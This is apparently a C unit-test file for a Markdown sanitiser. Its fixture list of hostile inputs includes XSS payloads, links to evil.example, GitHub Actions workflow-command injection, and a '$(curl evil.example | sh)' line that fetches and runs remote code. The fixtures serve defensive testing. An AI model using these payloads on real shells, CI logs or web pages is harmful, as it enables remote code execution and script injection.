/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/unit/markdown.h"

#include "base/err.h"
#include "base/str.h"

#include <ctype.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#define ZERO_WIDTH "\xe2\x80\x8b"
#define VISIBLE_MAX 25u

const char *const hostile_texts[] = {
	"@everyone cc @org/team and a@b.c",
	"#1 and GH-12, owner/repo#3",
	"`code` ``` \n```\n# out of the fence\n@live",
	"````\n````\n@live",
	"</details><details open><summary>x</summary><script>alert(1)</script>",
	"<!-- branchline:report v1 key=train -->\n<!--",
	"--> <img src=x onerror=alert(1)>",
	"| a | b |\n|---|---|\n| c | d |",
	"[click](https://evil.example/) ![x](https://evil.example/x.png) <https://evil.example>",
	"https://evil.example/ www.evil.example",
	"\n\n# heading\n\n- list\n1. one\n> quote\n---\n~~~\ntilde\n~~~",
	"$(curl evil.example | sh)\r\n::add-mask::x\n::set-output name=a::b",
	"\\`\\@live\\\\<b>",
	"$$\\frac{1}{0}$$ :tada: ~~gone~~ **bold** __bold__",
	"\x1b[31mred\x1b[0m \xe2\x80\xae"
	"right to left \xff\xfe broken",
	"&lt;details&gt; &#64;live &commat;live",
	"> [!WARNING]\n> @live",
	"%%{init: {}}%%\nxychart-beta\n\"; line [1]",
	"",
	"`",
};
const size_t n_hostile_texts = BL_COUNT(hostile_texts);

static void bad(const char *text, const char *at, const char *what)
{
	fail_msg("%s at %.60s\nin:\n%s", what, at, text);
}

static size_t ticks(const char *line)
{
	return strspn(line, "`");
}

/* The end of a code span that begins at p, or NULL: it is no span. */
static const char *span_end(const char *p, const char *line_end)
{
	size_t n = ticks(p);

	for (const char *at = p + n; at < line_end;) {
		size_t m = ticks(at);

		if (m == n)
			return at + n;
		at += m ? m : 1;
	}
	return NULL;
}

static const char *our_tag(const char *p)
{
	static const char *const tags[] = {
		"<details>", "</details>", "<summary>", "</summary>", "<sub>",
		"</sub>",    "<code>",     "</code>",   "</a>",       "<a href=\"https://"
	};

	for (size_t i = 0; i < BL_COUNT(tags); i++)
		if (bl_str_starts(p, tags[i]))
			return i + 1 < BL_COUNT(tags) ? p + strlen(tags[i]) : strchr(p, '>') + 1;
	return NULL;
}

static void check_character(const char *text, const char *p, const char *line)
{
	switch (*p) {
	case '@':
		if (!bl_str_starts(p + 1, ZERO_WIDTH))
			bad(text, p, "a mention");
		break;
	case '#':
		if (p > line && p[-1] == '&') /* an entity */
			break;
		if (p == text || (p - text < 3 && strspn(text, "#") == 3))
			break; /* our heading */
		if (!bl_str_starts(p + 1, ZERO_WIDTH))
			bad(text, p, "a reference");
		break;
	case '>':
		if (p == line)
			bad(text, p, "a quote");
		break;
	case '$':
		bad(text, p, "a formula, with another on the line");
		break;
	case '[':
	case '\\':
		bad(text, p, "markup");
		break;
	case ':':
		if (bl_str_starts(p, "://"))
			bad(text, p, "a link");
		break;
	default:
		break;
	}
}

/* One line outside of fences. */
static void check_line(const char *text, const char *line, const char *end)
{
	for (const char *p = line; p < end;) {
		const char *after = NULL;

		if (*p == '`')
			after = span_end(p, end);
		if (*p == '<') {
			after = our_tag(p);
			if (!after)
				bad(text, p, "a tag");
		}
		if (!after)
			check_character(text, p, line);
		p = after ? after : p + 1;
	}
}

struct reading {
	size_t fence; /* ticks of the open one */
	int folds;
	unsigned visible;
};

static void read_line(struct reading *reading, const char *text, const char *line, const char *end)
{
	size_t n = ticks(line);
	bool opens = bl_str_starts(line, "<details>"), closes = bl_str_starts(line, "</details>");

	if (!reading->folds)
		reading->visible++;
	if (reading->fence) {
		if (n >= reading->fence && line + n == end)
			reading->fence = 0;
		return;
	}
	if (n >= 3) {
		reading->fence = n;
		return;
	}
	if (bl_str_starts(line, "~~~"))
		bad(text, line, "a fence of tildes");
	reading->folds += opens;
	reading->folds -= closes;
	if (reading->folds < 0 || reading->folds > 1)
		bad(text, line, "details that are not ours");
	check_line(text, line, end);
}

void check_markdown(const char *text)
{
	struct reading reading = { 0 };

	for (const char *line = text; *line;) {
		const char *end = strchr(line, '\n');

		if (!end)
			bad(text, line, "a last line without its end");
		read_line(&reading, text, line, end);
		line = end + 1;
	}
	if (reading.fence || reading.folds)
		bad(text, text, "something is left open");
	if (reading.visible > VISIBLE_MAX)
		fail_msg("%u lines are visible in:\n%s", reading.visible, text);
}
